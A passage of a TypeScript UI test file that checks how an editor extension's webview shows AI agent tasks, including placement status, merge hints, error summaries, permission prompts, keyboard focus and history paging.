  tell({ type: "open", taskId: "t1" }, { type: "task", task: task({ placement }) });
  expect(find(".head-facts").textContent).toContain("on gpu-1");
  const reconnecting = { ...placement, state: "reconnecting", lastHeardAt: Date.now() - 7_000 };
  tell({ type: "task", task: task({ placement: reconnecting as Placement }) });
  expect(find(".head-facts").textContent).toContain("on gpu-1, no response for 7s");
});

test("the end of a run on the cluster says how to take its changes over, if there are any", () => {
  const { tell } = shown();
  const placement = { kind: "ray", state: "ended", node: "gpu-1" } as const;
  const ended = { status: "completed", endReason: "goal", completedAt: 2_000, placement } as const;
  const changes = { files: 1, additions: 2, deletions: 0 };
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task(ended) });
  expect(find(".ending").textContent).not.toContain("git merge");
  tell({ type: "task", task: task({ ...ended, changes }) });
  expect(find(".ending code").textContent).toBe("git merge refs/sidecar/t1");
  const here = { kind: "local", state: "ended" } as const;
  tell({ type: "task", task: task({ ...ended, changes, placement: here }) });
  expect(find(".ending").textContent).not.toContain("git merge");
});

test("a long error says its cause first, once", () => {
  const error = "Traceback\n  a\n  b\n  c\nValueError: no days";
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" });
  const log = { type: "log", stream: "stderr", text: `${error}\n` } as const;
  tell({ type: "events", taskId: "t1", events: numbered([log]) });
  tell({ type: "task", task: task({ status: "failed", endReason: "error", error }) });
  expect(find(".failure").textContent).toBe("ValueError: no days");
  expect(document.querySelectorAll(".log")).toHaveLength(1);
});

test("a message that was not delivered can be sent again or discarded", () => {
  const { asked, tell } = speaking();
  tell({ type: "undelivered", taskId: "t1", texts: ["Docs", "Tests"] });
  tell({ type: "task", task: task({ status: "failed", endReason: "hostExit" }) });
  expect(find(".unsaid").textContent).toContain("Not delivered");
  button("Discard").click();
  vi.advanceTimersByTime(50);
  button("Send Again").click();
  expect(asked.slice(-2)).toEqual([
    { type: "forget", taskId: "t1", text: "Docs" },
    { type: "forget", taskId: "t1", text: "Tests" },
  ]);
  expect(words().value).toBe("Tests");
  expect(document.activeElement).toBe(words());
});

test("a call that ended no longer counts as running, although the task says so", () => {
  const { tell } = shown();
  const progress = { turns: 1, toolCalls: 1, lastActivityAt: Date.now(), currentTool: "grep" };
  const [start, end] = numbered([tool("grep", "started", "1"), tool("grep", "completed", "1")]);
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task({ progress }) });
  tell({ type: "events", taskId: "t1", events: start === undefined ? [] : [start] });
  expect(find(".activity").textContent).toContain("Running grep");
  tell({ type: "events", taskId: "t1", events: end === undefined ? [] : [end] });
  expect(find(".activity").textContent).toContain("Working");
});

test("a key counts for what the last one chose, even in the same frame", () => {
  const { tell } = shown();
  tell(...READY);
  write("Fix @da");
  tell({ type: "foundFiles", text: "da", paths: ["days.py", "data.txt"] });
  for (const key of ["ArrowDown", "Enter"]) {
    goal().dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true }));
  }
  expect(goal().value).toBe("Fix @data.txt ");
});

test("the row of the conversation in front is marked, and the mark follows the tabs", () => {
  const { tell } = shown();
  const rows = [row({ status: "completed" }), row({ id: "t2", status: "completed" })];
  tell({ type: "service", state: { kind: "running" } }, { type: "settings", opensElsewhere: true });
  tell({ type: "runs", runs: rows }, DEFINITIONS);
  const marked = () =>
    [...document.querySelectorAll<HTMLElement>(".agent.selected")].map((each) => [
      each.dataset["key"],
      each.getAttribute("aria-current"),
    ]);
  find('[data-key="run t1"]').click();
  tell({ type: "front", taskId: "t1" });
  expect(marked()).toEqual([["run t1", "true"]]);
  tell({ type: "front", taskId: "t2" });
  expect(marked()).toEqual([["run t2", "true"]]);
  tell({ type: "front" });
  expect(marked()).toEqual([]);
});

test("a page that the editor focuses as a whole has the focus in its list, or where it was", () => {
  vi.spyOn(document, "hasFocus").mockReturnValue(true);
  const { tell } = shown();
  tell(...READY);
  const focused = () => (document.activeElement as HTMLElement).dataset["key"];
  expect(focused()).toBe("run t1");
  press("ArrowDown");
  press("ArrowDown");
  expect(focused()).toBe("run t2");
  (document.activeElement as HTMLElement).blur();
  window.dispatchEvent(new Event("focus"));
  expect(focused()).toBe("run t2");
  (document.activeElement as HTMLElement).blur();
  document.dispatchEvent(new Event("pointerdown"));
  window.dispatchEvent(new Event("focus"));
  expect(document.activeElement).toBe(document.body);
  vi.restoreAllMocks();
});

test("a page that was opened before its list was read leads to the list later", () => {
  const hasFocus = vi.spyOn(document, "hasFocus").mockReturnValue(true);
  const { tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS);
  const comeBack = () => window.dispatchEvent(new Event("focus"));
  comeBack();
  expect(document.activeElement).toBe(goal());
  tell(...READY);
  expect(document.activeElement).toBe(goal()); // the list may not take the focus
  comeBack();
  expect((document.activeElement as HTMLElement).dataset["key"]).toBe("run t1");
  hasFocus.mockRestore();
});

test("who began to write a goal before the list was read comes back to it", () => {
  const hasFocus = vi.spyOn(document, "hasFocus").mockReturnValue(true);
  const { tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS);
  goal().dispatchEvent(new InputEvent("input", { bubbles: true }));
  tell(...READY);
  goal().blur();
  window.dispatchEvent(new Event("focus"));
  expect(document.activeElement).toBe(goal());
  hasFocus.mockRestore();
});

/** A part of the history, of tasks with these numbers. */
function part(from: number, to: number, total: number): ToWebview {
  const rows = Array.from({ length: to - from }, (_, at) => ({
    ...{ id: `s${from + at}`, root: "/r", title: "Task", at: 5_000 },
    ...({ status: "completed", outcome: "completed", product: "roo" } as const),
  }));
  const counts = { matched: total, total, hasMore: to < total, totals: "" };
  const options = { scope: "all", sort: "recent", filter: "" } as const;
  return { type: "history", page: { ...options, ...counts, rows, from } };
}

test("End goes to the last row of all, which is loaded first, and Home back", () => {
  const { tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, part(0, 20, 60));
  const focused = () => (document.activeElement as HTMLElement).dataset["key"];
  find(".agent").focus();
  press("End");
  expect(focused()).toBe("stored /r s19");
  tell(part(20, 50, 60));
  expect(focused()).toBe("stored /r s19");
  tell(part(50, 60, 60));
  expect(focused()).toBe("stored /r s59");
  press("Home");
  expect(focused()).toBe("group older");
});

test("the tasks in view are named once the list is still, and show what they changed", () => {
  const { asked, tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, part(0, 900, 900));
  const reported = () => asked.flatMap((each) => (each.type === "tasksInView" ? [each.tasks] : []));
  expect(reported()).toHaveLength(1);
  for (const top of [500, 5_000, 10_000, 20_000, 30_000]) {
    find("#list").scrollTop = top;
    find("#list").dispatchEvent(new Event("scroll"));
    vi.advanceTimersByTime(60);
  }
  expect(reported()).toHaveLength(1);
  vi.advanceTimersByTime(400);
  expect(reported()).toHaveLength(2);
  expect(reported()[1]?.length).toBeLessThan(60);
  expect(reported()[1]).toContainEqual({ id: "s652", root: "/r" });

  const changes = { files: 1, additions: 2, deletions: 1 };
  const lines = () => find('[data-key="stored /r s652"]').querySelector(".row-lines");
  tell({ type: "changes", tasks: [{ id: "s652", root: "/r", changes }] });
  expect(lines()?.textContent).toBe("+2 −1");
  tell({ type: "changes", tasks: [{ id: "s652", root: "/r" }] });
  expect(lines()).toBeNull();
  expect(reported()).toHaveLength(2);
});

test("the key for the list leads from the goal to the current row", () => {
  const { tell } = shown();
  tell(...READY);
  goal().focus();
  tell({ type: "focusList" });
  expect(document.activeElement).toBe(find('.agent[tabindex="0"]'));
});

test.each([true, false])(
  "it leads to a list that comes later, unless a key is pressed: %s",
  (isPressed) => {
    const { tell } = shown();
    tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, { type: "focusList" });
    expect(document.activeElement).toBe(goal());
    if (isPressed) {
      press("w", goal());
    }
    tell(...READY);
    const row = find('.agent[tabindex="0"], .group[tabindex="0"]');
    expect(document.activeElement).toBe(isPressed ? goal() : row);
  },
);

test("Delete asks for the deletion of any task that is not running, so that the user learns why one stays", () => {
  const { asked, tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, part(0, 3, 3));
  find(".agent").focus();
  press("Delete");
  const task = { id: "s0", root: "/r" };
  expect(asked).toContainEqual({ type: "act", action: "deleteTask", task });
});

test("Shift+End selects up to the last row of all, which is loaded first", () => {
  const { tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, part(0, 6, 9));
  const selected = () => document.querySelectorAll('.agent[aria-pressed="true"]').length;
  find(".agent").focus();
  press("ArrowDown");
  press("End", document.activeElement, { shiftKey: true });
  expect(selected()).toBe(5);
  tell(part(6, 9, 9));
  expect(document.activeElement).toBe(find('[data-key="stored /r s8"]'));
  expect(selected()).toBe(8);
});

test("who moves on while the rest of the list is loaded is not taken to its end", () => {
  const { tell } = shown();
  const focused = () => (document.activeElement as HTMLElement).dataset["key"];
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, part(0, 20, 60));
  find(".agent").focus();
  press("End");
  press("ArrowUp");
  tell(part(20, 60, 60));
  expect(focused()).toBe("stored /r s18");
  press("End");
  expect(focused()).toBe("stored /r s59");
});

test("who writes a goal while the rest of the list is loaded stays there", () => {
  const { tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, DEFINITIONS, part(0, 20, 60));
  find(".agent").focus();
  press("End");
  goal().focus();
  tell(part(20, 60, 60));
  expect(document.activeElement).toBe(goal());
});

test("what comes late takes no focus that the user moved elsewhere; the page has it there when they return", () => {
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" }, { type: "home" });
  const hasFocus = vi.spyOn(document, "hasFocus").mockReturnValue(false);
  const focused = vi.fn();
  document.addEventListener("focusin", focused);
  tell({ type: "compose", subagentName: "tester" });
  expect(focused).not.toHaveBeenCalled();
  hasFocus.mockReturnValue(true);
  window.dispatchEvent(new Event("focus"));
  expect(document.activeElement).toBe(goal());
  // A button that goes passes its focus on only in a page that has it.
  tell({ type: "open", taskId: "t1" }, { type: "task", task: task() });
  button("Cancel").focus();
  focused.mockClear();
  hasFocus.mockReturnValue(false);
  tell({ type: "task", task: task({ status: "completed", completedAt: 9_000 }) });
  expect(focused).not.toHaveBeenCalled();
  hasFocus.mockReturnValue(true);
  window.dispatchEvent(new Event("focus"));
  expect(document.activeElement?.id).toBe("scroller");
  document.removeEventListener("focusin", focused);
  vi.restoreAllMocks();
});

test("what was launched opens in editors side by side; elsewhere, the user is not interrupted", () => {
  const { asked, tell } = shown();
  tell(...READY, { type: "settings", opensElsewhere: true });
  const hasFocus = vi.spyOn(document, "hasFocus").mockReturnValue(true);
  const opened = (...messages: ToWebview[]) => {
    asked.length = 0;
    tell(...messages);
    return asked.filter(({ type }) => type === "act");
  };
  const act = { type: "act", action: "openConversation" };
  const sent = { goalPrompt: "" };
  const [one, two] = [{ task: { id: "n1" } }, { task: { id: "n2" } }];
  expect(opened({ type: "launched", taskId: "n1", others: ["n2"], sent })).toEqual([
    { ...act, ...one },
    { ...act, ...two, toSide: true },
    { ...act, ...one },
  ]);
  hasFocus.mockReturnValue(false);
  expect(opened({ type: "launched", taskId: "n1", sent })).toEqual([
    { ...act, ...one, isAway: true },
  ]);
  const refused = { type: "launchFailed", message: "full", canQueue: true, sent } as const;
  expect(opened({ ...refused, left: ["b"], launched: ["n1"] })).toEqual([
    { ...act, ...one, isAway: true },
  ]);
  expect(opened(refused)).toEqual([]);
  vi.restoreAllMocks();
});

test.each([true, false])(
  "a launch whose answer comes late is only listed, and its goal is gone (editors: %s)",
  (opensElsewhere) => {
    const { asked, state, tell } = shown({ goal: "Fix the days", subagentName: "tester" });
    tell(...READY, { type: "settings", opensElsewhere }, { type: "launching" });
    vi.spyOn(document, "hasFocus").mockReturnValue(true);
    asked.length = 0;
    press("Enter", find("#goal"));
    tell({ type: "launched", taskId: "t1", sent: { goalPrompt: "Fix the days" }, isLate: true });
    expect(asked.filter(({ type }) => ["launch", "act", "follow"].includes(type))).toEqual([]);
    expect(asked).toContainEqual({ type: "noted" });
    expect(document.querySelector("#scroller")).toBeNull();
    expect(state.saved).toMatchObject({ goal: "" });
    vi.restoreAllMocks();
  },
);

test("the time of a call is what it worked, without its wait for an answer", () => {
  const { tell } = shown();
  const options = [{ optionId: "y", name: "Yes", kind: "allow_once" }];
  const call = { type: "tool", toolCallId: "c", name: "Write a.py", seq: 1 } as const;
  const ask = {
    type: "permission",
    requestId: "r",
    toolCallId: "c",
    title: "Write",
    options,
  } as const;
  const ended = (ts: number): ToWebview => ({
    ...{ type: "events", taskId: "t1" },
    events: [
      { ...call, status: "started", ts: 0 },
      { ...ask, state: "asked", seq: 2, ts: 1_000 },
      { ...ask, state: "answered", seq: 3, ts: 101_000, optionId: "y", kind: "allow_once" },
      { ...call, status: "completed", seq: 4, ts },
    ],
  });
  const times = () => [...document.querySelectorAll<HTMLElement>(".tool-word[title]")];
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() }, ended(104_000));
  expect(times().map((each) => [each.textContent, each.title])).toEqual([
    ["4s", "Waited 1m 40s for an answer"],
  ]);
});

test("the key for answers leads to the request, and allows nothing by another Enter", () => {
  const { tell } = shown();
  const options = [
    { optionId: "n", name: "No", kind: "reject_once" },
    { optionId: "y", name: "Yes", kind: "allow_once" },
  ];
  const asked = { type: "permission", state: "asked", title: "Write", options } as const;
  const events = [
    { ...asked, requestId: "one", seq: 1, ts: 0 },
    { ...asked, requestId: "two", seq: 2, ts: 0 },
  ];
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({ type: "events", taskId: "t1", events }, { type: "toQuestion", requestId: "two" });
  const focused = document.activeElement;
  expect(focused?.getAttribute("data-question")).toBe("two");
  expect(focused?.querySelector("button")?.textContent.trim()).toBe("Allow Once");
});

test("a row that needs the user says who asks and, in a window on other folders, where", () => {
  const { tell } = shown();
  const runs = [
    row({ asks: "ls", tags: ["later"] }),
    row({ id: "t2", asks: "ls", folder: "shop" }),
  ];
  tell({ type: "service", state: { kind: "running" } }, { type: "runs", runs }, DEFINITIONS);
  const facts = [...document.querySelectorAll(".row-facts")];
  expect(facts.map((each) => [...each.children].map((part) => part.textContent))).toEqual([
    ["Asks: ls", "tester"],
    ["Asks: ls", "tester", "shop"],
  ]);
  expect(facts[1]?.textContent.trim()).toBe("Asks: lstestershop"); // the dots come with spaces
});

test("the key for answers leads to a question far above what came after it", () => {
  const { tell } = shown();
  const options = [{ optionId: "y", name: "Yes", kind: "allow_once" }];
  const ask = {
    type: "permission",
    state: "asked",
    requestId: "r",
    title: "Write",
    options,
  } as const;
  const later = numbered(
    Array.from({ length: 500 }, (_, at) => message(`m${at}`, `Line ${at}`)),
    2,
  );
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({ type: "events", taskId: "t1", events: [{ ...ask, seq: 1, ts: 0 }, ...later] });
  expect(document.querySelector("[data-question]")).toBeNull();
  tell({ type: "toQuestion", requestId: "r" });
  expect(document.activeElement?.getAttribute("data-question")).toBe("r");
});

/** Show a long run, and go to its question at the beginning, which is not loaded; the page that has it comes later. */
function seekingQuestion() {
  const page = shown();
  const { asked, tell } = page;
  const options = [{ optionId: "y", name: "Yes", kind: "allow_once" }];
  const ask = { type: "permission", state: "asked", requestId: "r", title: "Write" } as const;
  const texts = (from: number, to: number) =>
    numbered(
      Array.from({ length: to - from }, (_, at) => message(`m${from + at}`, `Line ${from + at}`)),
      from,
    );
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({ type: "events", taskId: "t1", events: texts(900, 1_000), facts: [] });
  asked.length = 0;
  tell({ type: "toQuestion", requestId: "r", seq: 1 });
  const before = { type: "page", taskId: "t1", side: "before", seq: 61 } as const;
  const events = [{ ...ask, options, seq: 1, ts: 0 }, ...texts(2, 61)];
  return {
    ...page,
    before,
    texts,
    arrive: () => {
      tell({ ...before, events });
    },
  };
}

test("the key for answers leads to a question that is not loaded, and only there", () => {
  const { asked, tell, before, texts, arrive } = seekingQuestion();
  expect(asked).toContainEqual(before);
  arrive();
  expect(document.activeElement?.getAttribute("data-question")).toBe("r");
  (document.activeElement as HTMLElement).blur();
  tell({ ...before, side: "after", seq: 60, events: texts(61, 120) });
  expect(document.activeElement?.getAttribute("data-question")).toBeNull();
});

test("a question that was not loaded takes no focus from a reader who went elsewhere meanwhile", () => {
  const { tell, arrive } = seekingQuestion();
  tell({ type: "find" });
  expect(document.activeElement?.id).toBe("find");
  arrive();
  expect(document.querySelector("[data-question]")).not.toBeNull();
  expect(document.activeElement?.id).toBe("find");
});

test("a question about a call is shown, whatever the agent calls the call", () => {
  const { tell } = shown();
  const options = [{ optionId: "y", name: "Yes", kind: "allow_once" }];
  const call = { type: "tool", toolCallId: "c", name: "(error)", status: "started" } as const;
  const ask = { type: "permission", state: "asked", requestId: "r", toolCallId: "c" } as const;
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({
    ...{ type: "events", taskId: "t1" },
    events: [
      { ...call, seq: 1, ts: 0 },
      { ...ask, title: "Run rm", options, seq: 2, ts: 0 },
    ],
  });
  expect(document.querySelector("[data-question=r]")).not.toBeNull();
});

test("the time of a call does not include its wait for a form, either", () => {
  const { tell } = shown();
  const call = { type: "tool", toolCallId: "c", name: "Ask", seq: 1 } as const;
  const ask = { type: "question", requestId: "r", toolCallId: "c", title: "Which?" } as const;
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({
    ...{ type: "events", taskId: "t1" },
    events: [
      { ...call, status: "started", ts: 0 },
      { ...ask, state: "asked", url: "https://a.example/", seq: 2, ts: 1_000 },
      { ...ask, state: "answered", action: "accept", seq: 3, ts: 101_000 },
      { ...call, status: "completed", seq: 4, ts: 104_000 },
    ],
  });
  expect(find(".tool-word[title]").textContent).toBe("4s");
});
